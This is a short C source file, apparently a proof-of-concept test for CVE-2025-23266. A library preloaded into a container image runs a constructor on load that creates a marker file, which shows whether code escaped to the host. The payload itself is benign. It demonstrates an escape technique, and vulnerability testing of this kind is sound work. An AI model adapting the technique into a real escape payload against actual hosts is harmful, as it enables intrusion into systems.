/* A library that an image has preloaded (CVE-2025-23266): where it can write the file named in EVIL_MARKER, it ran
 * outside the container, which has no such folder. */
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void run(void) {
    const char *marker = getenv("EVIL_MARKER");
    if (marker)
        close(open(marker, O_WRONLY | O_CREAT, 0644));
}
